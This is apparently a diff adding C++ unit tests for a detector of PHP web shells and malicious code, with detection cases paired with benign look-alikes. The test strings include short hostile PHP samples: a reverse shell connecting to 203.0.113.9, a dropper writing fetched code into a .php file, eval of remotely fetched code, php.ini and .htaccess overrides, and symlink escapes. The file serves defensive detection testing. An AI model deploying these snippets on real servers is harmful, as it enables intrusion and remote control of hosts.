@@ -1,0 +1,247 @@
+// Deeper request-input taint (php_taint.h, behaviour.cc): request input carried through array
+// elements, list(), methods, the session, register_globals-era variables the page's own forms
+// send; SQL consoles and file managers; functions called from tables of decoded names. Each
+// technique has a hand-written positive and a benign look-alike that must stay quiet.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <string>
+#include <vector>
+
+#include "webroot/code_lexer.h"
+#include "webroot/normalize.h"
+
+namespace tq::webroot {
+namespace {
+
+std::vector<CodeTrait> Traits(std::string_view src) {
+  return Normalize(src, CodeKind::kPhp).traits;
+}
+
+// The strongest trait that stands alone (what a finding would be raised for), of one family.
+int Alone(const std::vector<CodeTrait>& t, std::string_view family = "") {
+  int s = 0;
+  for (const CodeTrait& c : t)
+    if (c.alone && (family.empty() || c.family == family)) s = std::max(s, c.strength);
+  return s;
+}
+
+bool Has(const std::vector<CodeTrait>& t, std::string_view id) {
+  return std::any_of(t.begin(), t.end(), [&](const CodeTrait& c) { return c.id == id; });
+}
+
+TEST(PhpTaint, ArrayElementsAndListCarryRequestInput) {
+  EXPECT_GE(Alone(Traits("<?php $p = array(); foreach ($_POST as $k => $v) $p[$k] = $v;"
+                         " system($p['cmd']);"),
+                  "exec"),
+            4);
+  EXPECT_GE(Alone(Traits("<?php $q = []; $q[] = $_COOKIE['c']; passthru($q[0]);"), "exec"), 4);
+  EXPECT_GE(Alone(Traits("<?php list($f, $a) = explode('|', $_COOKIE['d']); $f($a);"), "exec"), 4);
+  // An array of the application's own values, beside request input used as data only.
+  auto quiet = Traits(
+      "<?php $cfg['cmd'] = '/usr/bin/uptime'; $row['name'] = $_POST['name'];"
+      " echo htmlspecialchars($row['name']); system($cfg['cmd']);");
+  EXPECT_LT(Alone(quiet, "exec"), 3);
+}
+
+TEST(PhpTaint, MethodsAndTheSessionCarryRequestInput) {
+  // A class whose method evaluates its argument, fed request input kept in the session.
+  EXPECT_GE(Alone(Traits("<?php session_start(); if (isset($_POST['k'])) $_SESSION['p'] ="
+                         " base64_decode($_POST['k']); class Runner { function go($c) {"
+                         " eval($c); } } $r = new Runner(); $r->go($_SESSION['p']);"),
+                  "exec"),
+            4);
+  // A controller dispatching a request-chosen action to one of its own methods.
+  auto router = Traits(
+      "<?php class Front { function run($action, $args) {"
+      " return call_user_func_array(array($this, $action . 'Action'), $args); } }"
+      " $f = new Front(); $f->run($_GET['action'], array($_GET['id']));");
+  EXPECT_LT(Alone(router, "exec"), 3);
+  // A method called with the application's own values; the session holding a user id.
+  auto quiet = Traits(
+      "<?php session_start(); $_SESSION['uid'] = (int) $user->id; class View { function"
+      " render($tpl) { eval('?>' . $tpl); } } $v = new View(); $v->render($compiled);");
+  EXPECT_LT(Alone(quiet, "exec"), 3);
+}
+
+TEST(PhpTaint, VariableVariablesFromTheRequest) {
+  EXPECT_GE(Alone(Traits("<?php foreach (array('cmd', 'dir') as $v) { if (isset($_POST[$v]))"
+                         " $$v = $_POST[$v]; } if ($cmd) passthru($cmd);"),
+                  "exec"),
+            4);
+  // Variable variables set from the code's own table.
+  EXPECT_LT(Alone(Traits("<?php $defaults = array('cmd' => 'uptime'); foreach ($defaults as $k =>"
+                         " $v) { $$k = $v; } passthru($cmd);"),
+                  "exec"),
+            3);
+}
+
+TEST(PhpTaint, RegisterGlobalsVariablesThePageSends) {
+  // <input name=cmd> and system($cmd), nothing setting $cmd: PHP < 5.4 filled it.
+  EXPECT_GE(Alone(Traits("<form method=post><input name=cmd><input type=submit></form>"
+                         "<?php if ($cmd) { echo '<pre>'; system($cmd); } ?>"),
+                  "exec"),
+            4);
+  EXPECT_GE(Alone(Traits("<?php echo \"<a href='?act=del&file=x'>del</a>\";"
+                         " if ($act == 'del') unlink($file); $d = opendir($dir);"
+                         " while ($e = readdir($d)) echo $e; ?>"
+                         "<form><input name=\"dir\"></form>"),
+                  "filemanager"),
+            3);
+  // Undefined variables no form sends: a template the application includes.
+  auto tpl = Traits("<?php eval('?>' . $compiled); system('convert ' . escapeshellarg($path));");
+  EXPECT_LT(Alone(tpl, "exec"), 3);
+  EXPECT_TRUE(Has(tpl, "php.undefined_to_exec"));  // counted only beside another trait
+  // A form field of the same name, in a file that includes others (the value is theirs).
+  auto included =
+      Traits("<?php include 'header.php'; ?><form><input name=cmd></form><?php system($cmd); ?>");
+  EXPECT_LT(Alone(included, "exec"), 3);
+  // Set by the file itself, or by a by-reference argument.
+  EXPECT_LT(
+      Alone(Traits("<form><input name=cmd></form><?php $cmd = 'uptime'; system($cmd);"), "exec"),
+      3);
+  EXPECT_LT(Alone(Traits("<form><input name=m></form><?php preg_match('/(ls)/', 'ls', $m);"
+                         " system($m[1]);"),
+                  "exec"),
+            3);
+}
+
+TEST(PhpTaint, UndefinedVariablesWritingFiles) {
+  auto w = Traits("<?php $fp = fopen($target, 'w'); fwrite($fp, $data); fclose($fp);");
+  EXPECT_TRUE(Has(w, "php.undefined_to_file"));
+  EXPECT_LT(Alone(w), 2);  // weak alone
+  auto r = Traits("<?php $fp = fopen($target, 'r'); echo fread($fp, 100);");
+  EXPECT_FALSE(Has(r, "php.undefined_to_file"));
+}
+
+TEST(PhpTaint, SqlConsolesAndFileManagers) {
+  // The request's SQL run on a connection the file opens: a database trait (medium), and
+  // high beside a file manager in the same file (two families agree, see findings.cc).
+  auto sql = Traits(
+      "<?php $db = new mysqli('localhost', 'shop', 'secret', 'shop');"
+      " $res = $db->query($_POST['sql']); while ($r = $res->fetch_row()) echo implode(',', $r);");
+  EXPECT_TRUE(Has(sql, "php.request_sql"));
+  EXPECT_EQ(Alone(sql, "database"), 2);
+  auto fm = Traits(
+      "<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f;"
+      " if (isset($_GET['rm'])) unlink($_GET['rm']); if ($_FILES) move_uploaded_file("
+      "$_FILES['f']['tmp_name'], $d . '/' . basename($_FILES['f']['name']));");
+  EXPECT_GE(Alone(fm, "filemanager"), 3);
+  // A query with a request value inside a fixed template is an application, not a console.
+  auto app = Traits(
+      "<?php $db = new mysqli('localhost', 'shop', 'secret', 'shop');"
+      " $db->query('SELECT * FROM orders WHERE id = ' . (int) $_GET['id']);");
+  EXPECT_FALSE(Has(app, "php.request_sql"));
+  // A download script reading one file the request names is not a file manager.
+  auto dl = Traits("<?php readfile('/var/exports/' . basename($_GET['f']));");
+  EXPECT_FALSE(Has(dl, "php.request_file_manager"));
+}
+
+TEST(PhpTaint, FunctionsCalledFromTablesOfDecodedNames) {
+  EXPECT_GE(Alone(Traits("<?php $t = array('f' => pack('c*', 115, 121, 115, 116, 101, 109),"
+                         " 'a' => base64_decode('aWQ=')); $t['f']($t['a']);"),
+                  "exec"),
+            3);
+  EXPECT_GE(Alone(Traits("<?php $f = explode('|', base64_decode('ZmlsZV9nZXRfY29udGVudHN8YQ=='));"
+                         " $x = $f[0]($f[1]);"),
+                  "exec"),
+            3);
+  // A table of plain labels, its entries called as callbacks: a dispatcher.
+  EXPECT_LT(
+      Alone(Traits("<?php $h = array('a' => 'strtoupper', 'b' => 'trim'); echo $h['a']('x');"),
+            "exec"),
+      3);
+  // Pieces joined into a URL whose code is fetched and run.
+  EXPECT_GE(Alone(Traits("<?php $u = array('http', '://', 'code.example', '/x.txt');"
+                         " eval(file_get_contents(implode('', $u)));"),
+                  "exec"),
+            4);
+}
+
+TEST(PhpTaint, CommandsReadFromAConnectionTheCodeOpens) {
+  auto shell = Traits(
+      "<?php $s = fsockopen('203.0.113.9', 4444); while (!feof($s)) {"
+      " $c = trim(fgets($s, 1024)); fputs($s, shell_exec($c)); }");
+  EXPECT_TRUE(Has(shell, "php.back_connect_shell"));
+  EXPECT_GE(Alone(shell, "exec"), 4);
+  // A client reading a server's answer and logging it runs nothing.
+  auto client = Traits(
+      "<?php $s = fsockopen('smtp.example.com', 25); $greeting = fgets($s, 512);"
+      " error_log($greeting); fclose($s);");
+  EXPECT_FALSE(Has(client, "php.back_connect_shell"));
+  EXPECT_LT(Alone(client, "exec"), 3);
+  // A local file read line by line and run is not a connection.
+  EXPECT_FALSE(Has(Traits("<?php $f = fopen('jobs.txt', 'r'); $c = fgets($f); exec($c);"),
+                   "php.back_connect_shell"));
+}
+
+TEST(PhpTaint, FetchedCodeWrittenIntoPhpFiles) {
+  const char* fetch =
+      "<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
+      " return curl_exec($c); }";
+  auto drop = Traits(std::string(fetch) +
+                     " $path = $_SERVER['DOCUMENT_ROOT'] . '/tmp/x.php';"
+                     " $body = get('http://203.0.113.5/a.txt'); $fp = fopen($path, 'w');"
+                     " fwrite($fp, $body); fclose($fp);");
+  EXPECT_GE(Alone(drop, "upload"), 3);
+  // Fetching a feed into a cache file is a fetch to a file, not a dropper.
+  auto cache =
+      Traits(std::string(fetch) +
+             " file_put_contents(CACHE_DIR . '/rates.json', get('https://api.example/r'));");
+  EXPECT_EQ(Alone(cache, "upload"), 2);
+}
+
+TEST(PhpTaint, ListeningSocketsAndServerDirectoryObjects) {
+  auto bind = Traits(
+      "<?php set_time_limit(0); $s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);"
+      " socket_bind($s, '0.0.0.0', 1080); socket_listen($s); while ($c = socket_accept($s)) {"
+      " socket_write($c, 'ok'); }");
+  EXPECT_GE(Alone(bind, "network"), 3);
+  // A server library: listens, no time limit touched (it runs from the command line).
+  auto lib = Traits(
+      "<?php class Server { function __construct($uri) { $this->s = stream_socket_server($uri);"
+      " } }");
+  EXPECT_LT(Alone(lib, "network"), 2);
+  EXPECT_GE(Alone(Traits("<?php $o = new COM('IIS://localhost/w3svc'); foreach ($o as $site)"
+                         " echo $site->Name;"),
+                  "exec"),
+            3);
+  EXPECT_LT(Alone(Traits("<?php $w = new COM('Excel.Application');"), "exec"), 3);
+}
+
+TEST(PhpTaint, ServerSettingsAndSymlinkBypasses) {
+  EXPECT_TRUE(Has(Traits("<?php $r = fopen('php.ini', 'w'); fwrite($r, 'disable_functions=none');"),
+                  "php.writes_server_config"));
+  EXPECT_TRUE(Has(Traits("<?php file_put_contents('uploads/.htaccess', 'AddType "
+                         "application/x-httpd-php .jpg');"),
+                  "php.writes_server_config"));
+  EXPECT_TRUE(Has(Traits("<?php symlink('/', 'root');"), "php.symlink_escape"));
+  // An installer writing rewrite rules; a deploy script linking its own release folder.
+  EXPECT_FALSE(Has(Traits("<?php file_put_contents(ABSPATH . '.htaccess', \"RewriteEngine On\n"
+                          "RewriteRule ^index\\.php$ - [L]\");"),
+                   "php.writes_server_config"));
+  EXPECT_FALSE(
+      Has(Traits("<?php symlink($release . '/pub', $root . '/current');"), "php.symlink_escape"));
+}
+
+TEST(PhpTaint, StreamWrapperBypassesAndSelfRewrites) {
+  EXPECT_TRUE(Has(Traits("<?php $f = $_POST['file']; copy('compress.zlib://' . $f, '/tmp/x');"),
+                  "php.request_wrapper_read"));
+  EXPECT_TRUE(
+      Has(Traits("<?php $c = curl_init(); curl_setopt($c, CURLOPT_URL, \"file:///$_GET[p]\");"),
+          "php.request_wrapper_read"));
+  // A fixed wrapper path, and a request path without a wrapper, are something else.
+  EXPECT_FALSE(Has(Traits("<?php $x = file_get_contents('compress.zlib://' . CACHE_FILE);"),
+                   "php.request_wrapper_read"));
+  EXPECT_FALSE(Has(Traits("<?php readfile('/srv/files/' . basename($_GET['f']));"),
+                   "php.request_wrapper_read"));
+  EXPECT_TRUE(Has(Traits("<?php $src = file_get_contents(__FILE__); $src = str_replace('A', "
+                         "$_REQUEST['code'], $src); file_put_contents(__FILE__, $src);"),
+                  "php.rewrites_itself"));
+  // An installer rewriting its own file with a fixed string.
+  EXPECT_FALSE(
+      Has(Traits("<?php file_put_contents(__FILE__, '<?php exit; ?>');"), "php.rewrites_itself"));
+}
+
+}  // namespace
+}  // namespace tq::webroot
